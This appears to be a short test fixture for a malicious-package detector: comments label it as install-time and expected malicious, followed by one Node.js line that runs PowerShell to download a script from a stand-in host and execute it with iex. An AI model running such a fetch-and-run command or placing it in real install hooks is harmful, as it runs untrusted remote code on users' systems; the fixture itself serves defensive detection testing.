// when: install
// expect: malicious
require('child_process').execSync('powershell -c "iwr https://get.example/a.ps1 | iex"');
